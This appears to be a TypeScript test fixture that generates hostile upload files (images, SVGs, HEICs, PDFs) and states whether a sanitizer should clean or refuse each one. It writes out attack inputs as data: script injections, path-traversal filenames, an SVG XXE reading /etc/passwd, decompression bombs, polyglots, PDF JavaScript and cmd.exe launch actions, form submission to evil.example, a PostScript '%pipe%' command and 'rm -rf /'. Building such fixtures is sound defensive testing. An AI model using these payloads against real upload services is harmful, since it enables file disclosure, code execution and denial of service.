import { deflateSync } from 'node:zlib';
import sharp from 'sharp';

/** A malicious file, and its expected result. */
export type HostileFile = {
  name: string;
  bytes: Uint8Array;
  /** Accepted after cleaning, or refused. */
  isTaken: boolean;
};

/** Occurs in hostile files, and must never occur in stored ones. */
export const MARK = 'HOSTILE-MARK';
const SCRIPT = `<script>alert("${MARK}")</script>`;

export const text = (content: string) => Buffer.from(content, 'latin1');

export function picture(width = 64, height = 48) {
  return sharp({ create: { width, height, channels: 3, background: '#3a7' } });
}

/** One chunk of a PNG; the checksum may be wrong in bombs, which are refused by their header. */
function pngChunk(type: string, data: Buffer): Buffer {
  const body = Buffer.concat([Buffer.from(type), data]);
  const length = Buffer.alloc(4);
  length.writeUInt32BE(data.length);
  const sum = Buffer.alloc(4);
  sum.writeUInt32BE(crc32(body));
  return Buffer.concat([length, body, sum]);
}

function crc32(bytes: Buffer): number {
  let sum = ~0;
  for (const byte of bytes) {
    sum ^= byte;
    for (let bit = 0; bit < 8; bit += 1) sum = (sum >>> 1) ^ (sum & 1 ? 0xedb88320 : 0);
  }
  return ~sum >>> 0;
}

/** A PNG that declares this size; its content is a few kilobytes of zeros. */
function pngOf(width: number, height: number, data = deflateSync(Buffer.alloc(1_000_000))): Buffer {
  const head = Buffer.alloc(13);
  head.writeUInt32BE(width, 0);
  head.writeUInt32BE(height, 4);
  head.set([8, 2, 0, 0, 0], 8);
  const signature = Buffer.from([0x89, 0x50, 0x4e, 0x47, 0x0d, 0x0a, 0x1a, 0x0a]);
  const chunks = [pngChunk('IHDR', head), pngChunk('IDAT', data), pngChunk('IEND', Buffer.alloc(0))];
  return Buffer.concat([signature, ...chunks]);
}

/** A JPEG whose header declares this size. */
export function jpegOf(jpeg: Buffer, width: number, height: number): Buffer {
  const altered = Buffer.from(jpeg);
  for (let at = 2; at < altered.length - 9; at += 1)
    if (altered[at] === 0xff && [0xc0, 0xc1, 0xc2].includes(altered[at + 1] ?? 0)) {
      altered.writeUInt16BE(height, at + 5);
      altered.writeUInt16BE(width, at + 7);
      return altered;
    }
  return altered;
}

/** A PDF of one page with further entries in the catalog and the page; other objects are numbered from 5. */
export function pdfOf(catalog = '', page = '', others: readonly string[] = [], count = 1): Buffer {
  const content = `BT /F 24 Tf 72 700 Td (${MARK}) Tj ET`;
  const kids = Array.from({ length: count }, () => '3 0 R').join(' ');
  const objects = [
    `<< /Type /Catalog /Pages 2 0 R ${catalog} >>`,
    `<< /Type /Pages /Kids [${kids}] /Count ${count} >>`,
    `<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Contents 4 0 R /Resources << /Font << /F << /Type /Font /Subtype /Type1 /BaseFont /Helvetica >> >> >> ${page} >>`,
    `<< /Length ${content.length} >>\nstream\n${content}\nendstream`,
    ...others,
  ];
  let body = '%PDF-1.7\n';
  const offsets = objects.map((object, nth) => {
    const at = body.length;
    body += `${nth + 1} 0 obj\n${object}\nendobj\n`;
    return at;
  });
  const rows = offsets.map((offset) => `${String(offset).padStart(10, '0')} 00000 n \n`).join('');
  const size = objects.length + 1;
  const end = `xref\n0 ${size}\n0000000000 65535 f \n${rows}trailer\n<< /Size ${size} /Root 1 0 R >>\n`;
  return text(`${body}${end}startxref\n${body.length}\n%%EOF\n`);
}

/** A box of ISO BMFF, the container format of HEIC. */
function box(type: string, ...content: Buffer[]): Buffer {
  const body = Buffer.concat([Buffer.from(type), ...content]);
  const length = Buffer.alloc(4);
  length.writeUInt32BE(body.length + 4);
  return Buffer.concat([length, body]);
}

const heicHead = () => box('ftyp', Buffer.from('heic\0\0\0\0mif1heic'));

/** With one byte of its content changed, so that the checksum is wrong. */
function torn(png: Buffer): Buffer {
  const altered = Buffer.from(png);
  const at = altered.indexOf('IDAT') + 12;
  altered.writeUInt8(altered.readUInt8(at) ^ 0xff, at);
  return altered;
}

async function pictures(): Promise<HostileFile[]> {
  const jpeg = await picture().jpeg().toBuffer();
  const png = await picture().png().toBuffer();
  const webp = await picture().webp().toBuffer();
  const placed = await picture()
    .withExif({
      IFD0: { Make: MARK, Artist: MARK },
      IFD3: { GPSLatitude: '13/1 45/1 0/1', GPSLatitudeRef: 'N', GPSLongitude: '100/1 30/1 0/1' },
    })
    .jpeg()
    .toBuffer();
  const comment = Buffer.concat([
    jpeg.subarray(0, 2),
    Buffer.from([0xff, 0xfe, 0, MARK.length + 2]),
    text(MARK),
    jpeg.subarray(2),
  ]);
  const xmp = await picture()
    .withXmp(`<x:xmpmeta xmlns:x="adobe:ns:meta/"><a>${MARK}</a></x:xmpmeta>`)
    .jpeg()
    .toBuffer();
  const pngText = Buffer.concat([
    png.subarray(0, 33),
    pngChunk('tEXt', text(`Comment\0${SCRIPT}`)),
    png.subarray(33),
  ]);
  const thirty = await picture(30_000, 100).png().toBuffer();
  const taken = (name: string, bytes: Uint8Array) => ({ name, bytes, isTaken: true });
  const refused = (name: string, bytes: Uint8Array) => ({ name, bytes, isTaken: false });
  return [
    taken('a picture with the place it was taken at.jpg', placed),
    taken('a picture with a comment.jpg', comment),
    taken('a picture with XMP.jpg', xmp),
    taken('a PNG with a script in its text.png', pngText),
    taken('a picture with a page behind it.jpg', Buffer.concat([jpeg, text(`<html>${SCRIPT}</html>`)])),
    taken('a picture with PHP behind it.php.jpg', Buffer.concat([jpeg, text(`<?php echo "${MARK}"; ?>`)])),
    taken('a picture with an archive behind it.jpg', Buffer.concat([jpeg, text(`PK\x03\x04${MARK}`)])),
    taken('a picture with a PDF behind it.jpg', Buffer.concat([jpeg, pdfOf()])),
    taken('a PNG with a program behind it.png', Buffer.concat([png, text(`MZ${MARK}`)])),
    taken('a WebP with a script behind it.webp', Buffer.concat([webp, text(SCRIPT)])),
    taken('a PNG by the name of a JPG.jpg', png),
    taken('a JPG by the name of a program.exe', jpeg),
    taken('a WebP by the name of a page.html', webp),
    taken('../../../../etc/passwd', jpeg),
    taken('..\\..\\windows\\system32\\evil.jpg', jpeg),
    taken('name\u0000with\u202eturned.gpj', jpeg),
    taken(`${'long'.repeat(60)}.jpg`, jpeg),
    taken('thirty thousand pixels wide.png', thirty),
    refused('thirty thousand pixels each way.png', pngOf(30_000, 30_000)),
    refused('two thousand million pixels.png', pngOf(2_000_000_000, 1)),
    refused('more pixels than a number holds.png', pngOf(0xffffffff, 0xffffffff)),
    refused('no pixels.png', pngOf(0, 0)),
    refused('a JPG that says it is huge.jpg', jpegOf(jpeg, 65_000, 65_000)),
    refused('a JPG without height.jpg', jpegOf(jpeg, 640, 0)),
    refused('a picture that ends in its head.jpg', jpeg.subarray(0, 120)),
    refused('a picture that ends in the middle.jpg', jpeg.subarray(0, Math.floor(jpeg.length / 2))),
    refused('a PNG that ends in the middle.png', png.subarray(0, Math.floor(png.length / 2))),
    refused('a WebP that ends in the middle.webp', webp.subarray(0, Math.floor(webp.length / 2))),
    refused('a PNG with wrong sums.png', torn(png)),
    refused('a PNG with noise inside.png', pngOf(100, 100, Buffer.alloc(5000, 7))),
    refused('the head of a JPG alone.jpg', Buffer.from([0xff, 0xd8, 0xff, 0xe0])),
    refused('the head of a PNG alone.png', png.subarray(0, 8)),
    refused('a JPG of noise.jpg', Buffer.concat([jpeg.subarray(0, 20), Buffer.alloc(5000, 0x5a)])),
  ];
}

async function otherKinds(): Promise<HostileFile[]> {
  const svg = `<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink">`;
  const refused = (name: string, bytes: Uint8Array) => ({ name, bytes, isTaken: false });
  return [
    refused('an SVG with a script.svg', text(`${svg}${SCRIPT}</svg>`)),
    refused('an SVG by the name of a picture.jpg', text(`${svg}${SCRIPT}</svg>`)),
    refused('an SVG that reads a file.svg', text(`${svg}<image xlink:href="file:///etc/passwd"/></svg>`)),
    refused(
      'an SVG with an entity.svg',
      text(`<!DOCTYPE a [<!ENTITY b SYSTEM "file:///etc/passwd">]>${svg}&b;</svg>`),
    ),
    refused('a page.jpg', text(`<html>${SCRIPT}</html>`)),
    refused('GIFAR.gif', Buffer.concat([await picture().gif().toBuffer(), text('PK\x03\x04')])),
    refused('a GIF.gif', await picture().gif().toBuffer()),
    refused('a TIFF.tif', await picture().tiff().toBuffer()),
    refused('a TIFF by the name of a picture.jpg', await picture().tiff().toBuffer()),
    refused('an AVIF.avif', await picture().avif().toBuffer()),
    refused('a program.jpg', text(`MZ\x90\0${MARK}`)),
    refused('a program of Linux.jpg', text(`\x7fELF${MARK}`)),
    refused('a shell script.png', text('#!/bin/sh\nrm -rf /\n')),
    refused('an archive.jpg', text('PK\x03\x04\x14\0\0\0\b\0')),
    refused('a gzip.jpg', text('\x1f\x8b\b\0\0\0\0\0')),
    refused('PostScript.jpg', text('%!PS-Adobe-3.0\n(%pipe%id) (r) file\n')),
    refused(
      'MVG.jpg',
      text('push graphic-context\nviewbox 0 0 1 1\nimage over 0,0 0,0 "https://evil.example/x"\n'),
    ),
    refused('one byte.jpg', text('\xff')),
    refused('blanks.jpg', Buffer.alloc(1000, 32)),
    refused('zeros.jpg', Buffer.alloc(1_000_000)),
    refused('a HEIC that is a head alone.heic', heicHead()),
    refused('a HEIC with nothing in it.heic', Buffer.concat([heicHead(), box('meta', Buffer.alloc(4))])),
    refused('a HEIC of noise.heic', Buffer.concat([heicHead(), Buffer.alloc(20_000, 0x33)])),
    refused(
      'a HEIC with a box without end.heic',
      Buffer.concat([heicHead(), Buffer.from([0x7f, 0xff, 0xff, 0xff]), text('mdat')]),
    ),
    refused('a HEIC by the name of a video.heic', box('ftyp', Buffer.from('isom\0\0\0\0isom'))),
  ];
}

function documents(): HostileFile[] {
  const taken = (name: string, bytes: Uint8Array) => ({ name, bytes, isTaken: true });
  const refused = (name: string, bytes: Uint8Array) => ({ name, bytes, isTaken: false });
  const js = `<< /S /JavaScript /JS (app.alert\\("${MARK}"\\)) >>`;
  const launch = `<< /S /Launch /F (cmd.exe) /Win << /F (cmd.exe) /P (${MARK}) >> >>`;
  const link = `/Annots [<< /Type /Annot /Subtype /Link /Rect [0 0 500 800] /A ${launch} >>]`;
  const file = `<< /Names [(${MARK}) << /Type /Filespec /F (${MARK}.exe) /EF << /F 5 0 R >> >>] >>`;
  const stream = (content: string, entries = '') =>
    `<< ${entries} /Length ${content.length} >>\nstream\n${content}\nendstream`;
  const bomb = deflateSync(Buffer.alloc(60_000_000)).toString('latin1');
  const wide = `/MediaBox [0 0 ${1e9} ${1e9}]`;
  return [
    taken('a PDF with a script.pdf', pdfOf(`/OpenAction ${js}`)),
    taken('a PDF with named scripts.pdf', pdfOf(`/Names << /JavaScript << /Names [(a) ${js}] >> >>`)),
    taken('a PDF whose page has a script.pdf', pdfOf('', `/AA << /O ${js} >>`)),
    taken('a PDF that starts a program.pdf', pdfOf(`/OpenAction ${launch}`)),
    taken('a PDF with a link that starts a program.pdf', pdfOf('', link)),
    taken(
      'a PDF with a file in it.pdf',
      pdfOf(`/Names << /EmbeddedFiles ${file} >>`, '', [stream(`MZ${MARK}`)]),
    ),
    taken(
      'a PDF with a form that sends.pdf',
      pdfOf(
        `/AcroForm << /Fields [] /XFA (${MARK}) >> /OpenAction << /S /SubmitForm /F (https://evil.example/${MARK}) >>`,
      ),
    ),
    taken(
      'a PDF that names a server.pdf',
      pdfOf(`/OpenAction << /S /URI /URI (https://evil.example/${MARK}) >>`),
    ),
    taken('a PDF with a script behind it.pdf', Buffer.concat([pdfOf(), text(SCRIPT)])),
    taken('a PDF by the name of a picture.jpg', pdfOf()),
    taken('a PDF as large as a country.pdf', pdfOf('', wide)),
    taken(
      'a PDF whose page unpacks to much.pdf',
      pdfOf('', '/Contents 5 0 R', [stream(bomb, '/Filter /FlateDecode')]),
    ),
    refused('a PDF with a password.pdf', protectedPdf()),
    refused('a PDF of a thousand pages.pdf', pdfOf('', '', [], 1000)),
    refused('a PDF without pages.pdf', pdfOf('', '', [], 0)),
    refused('a PDF that is a head alone.pdf', text('%PDF-1.7\n')),
    refused('a PDF that ends in the middle.pdf', text('%PDF-1.7\n1 0 obj\n<< /Type /Catalog /Pages')),
    refused(
      'a PDF whose pages go in a circle.pdf',
      text(
        '%PDF-1.7\n1 0 obj\n<< /Type /Catalog /Pages 2 0 R >>\nendobj\n2 0 obj\n<< /Type /Pages /Kids [2 0 R] /Count 1 >>\nendobj\ntrailer\n<< /Root 1 0 R >>\n',
      ),
    ),
  ];
}

/** Encrypted with an unknown password (standard handler, revision 3). */
export function protectedPdf(): Buffer {
  const key = 'A'.repeat(64);
  const encrypt = `/Encrypt << /Filter /Standard /V 2 /R 3 /Length 128 /P -4 /O <${key}> /U <${key}> >> /ID [<${'B'.repeat(32)}> <${'B'.repeat(32)}>]`;
  return text(pdfOf().toString('latin1').replace('/Root 1 0 R', `/Root 1 0 R ${encrypt}`));
}

/** More than sixty hostile files, made here; documents go where PDF files are accepted, too. */
export async function hostileFiles(): Promise<{ pictures: HostileFile[]; documents: HostileFile[] }> {
  return { pictures: [...(await pictures()), ...(await otherKinds())], documents: documents() };
}
